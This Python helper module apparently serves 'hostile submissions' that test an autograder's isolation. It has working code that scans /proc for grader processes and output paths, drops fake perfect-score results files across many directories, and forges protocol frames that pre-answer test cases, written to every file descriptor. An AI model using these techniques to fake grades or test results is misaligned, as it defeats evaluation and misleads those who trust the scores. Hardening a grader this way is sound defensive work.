"""Shared tools of the hostile submissions: where to aim, and how to forge.

``materialize.py`` copies this file next to every hostile module (a submission
only sees its own directory). Every function here swallows its own errors: a
hostile submission tries everything and reports what worked.
"""

import glob
import json
import os
import struct
import sys

MARKER = "HOSTILE-MARKER-3b9d"  # in every file a hostile submission writes outside its sandbox
FAKE_NAMES = ("results.json", "report.json", "HOSTILE_WAS_HERE.txt")


def attempt(what, fn, *args, **kwargs):
    """Run ``fn``; return ``(True, value)`` or ``(False, error text)``; print one line either way."""
    try:
        value = fn(*args, **kwargs)
    except BaseException as exc:  # noqa: BLE001
        print(f"[hostile] {what}: refused ({type(exc).__name__}: {exc})"[:300], flush=True)
        return False, f"{type(exc).__name__}: {exc}"
    print(f"[hostile] {what}: WORKED", flush=True)
    return True, value


# ------------------------------------------------------------ what runs on the machine
def processes():
    """(pid, cmdline words) of every process whose command line is readable."""
    found = []
    try:
        names = os.listdir("/proc")
    except OSError:
        names = []
    for name in names:
        if name.isdigit():
            try:
                with open(f"/proc/{name}/cmdline", "rb") as f:
                    words = [w.decode(errors="replace") for w in f.read().split(b"\0") if w]
            except OSError:
                continue
            found.append((int(name), words))
    return found


def grader_pids():
    """The grader, its zygote and any test runner, as far as /proc shows them."""
    keys = ("graphgrade", "grader.run.worker.zygote", "pytest", "grader.commands.cli")
    return [pid for pid, words in processes() if pid != os.getpid() and any(k in " ".join(words) for k in keys)]


def option_values(option):
    """Every value given to ``option`` (e.g. --out, --specs) on a readable command line."""
    values = []
    for _, words in processes():
        for i, word in enumerate(words):
            if word == option and i + 1 < len(words):
                values.append(words[i + 1])
            elif word.startswith(option + "="):
                values.append(word.split("=", 1)[1])
    return values


def grader_source_root():
    """Where the grader package lives (its module is already imported in this process)."""
    module = sys.modules.get("grader")
    path = getattr(module, "__file__", None)
    return os.path.dirname(os.path.dirname(path)) if path else None


def site_packages():
    import numpy

    return os.path.dirname(os.path.dirname(numpy.__file__))


def places_to_write():
    """Every directory a cheater would like to drop a fake results file into."""
    here = os.path.dirname(os.path.abspath(__file__))
    places = [os.getcwd(), here, os.path.dirname(here), os.path.dirname(os.path.dirname(here)), "..", "../..", "../../..", "/tmp", os.path.expanduser("~")]
    places += ["/autograder/results", "/autograder/source", "/autograder"]  # Gradescope's layout
    places += option_values("--out") + [os.path.join(p, "honest") for p in option_values("--out")]
    for pid in grader_pids():
        places.append(f"/proc/{pid}/cwd")
    root = grader_source_root()
    if root:
        places += [root, os.path.join(root, "grader"), os.path.join(root, "specs"), os.path.join(root, "reference")]
    try:
        places += [site_packages(), os.path.join(site_packages(), "grader")]
    except BaseException:  # noqa: BLE001
        pass
    places += option_values("--specs")
    places += glob.glob("/tmp/graphgrade-*") + glob.glob("/tmp/graphgrade-*/slot*") + glob.glob("/tmp/pytest-of-*/*/*/out")
    return places


def write_everywhere(tag):
    """Try to drop fake results in every place; returns the paths that were written."""
    fake = json.dumps({"score": 100.0, "tests": [], "output": f"{MARKER} {tag}", "HOSTILE": MARKER})
    written = []
    for place in places_to_write():
        for name in FAKE_NAMES:
            path = os.path.join(place, name)
            try:
                with open(path, "w") as f:
                    f.write(fake)
                written.append(path)
            except BaseException:  # noqa: BLE001
                pass
    return written


# ------------------------------------------------------------ what the grader reads back
def case_uid():
    """The id of the case being run, found on the interpreter's stack (run_case's ``uid``)."""
    frame = sys._getframe()
    while frame is not None:
        uid = frame.f_locals.get("uid")
        if isinstance(uid, str) and "/" in uid:
            return uid
        frame = frame.f_back
    return "launch-counter-basics/reset-sets-zero"


def observation_frame(uid, steps=1):
    """A well-formed observation frame (protocol v1) claiming every step returned 0."""
    records = [{"index": i, "outcome": "returned", "value": 0, "error": None, "launches": 1, "witness": [], "input_address": None, "graphs": None, "note": ""} for i in range(steps)]
    header = json.dumps({"protocol": 1, "case": uid, "steps": records}).encode()
    body = b"GGv1" + struct.pack("<II", len(header), 0) + header
    return struct.pack("<Q", len(body)) + body


def control_frame(kind, **fields):
    body = b"GGc1" + json.dumps({"protocol": 1, "kind": kind, **fields}).encode()
    return struct.pack("<Q", len(body)) + body


def forged_stream(uid):
    """Frames that would, if the grader believed them, end this case and pre-answer later ones."""
    later = ["fusion-edge/empty-list", "state-machine-basics/disabled-by-default", "launch-counter-basics/reset-sets-zero"]
    data = observation_frame(uid) + control_frame("status", case=uid, exitcode=0, signal=None)
    for other in later:
        data += observation_frame(other) + control_frame("status", case=other, exitcode=0, signal=None)
    return data + control_frame("ready") + b"\xff" * 64  # and garbage to desynchronise


def write_every_fd(data, fds=range(0, 256)):
    hit = []
    for fd in fds:
        try:
            os.write(fd, data)
            hit.append(fd)
        except BaseException:  # noqa: BLE001
            pass
    return hit
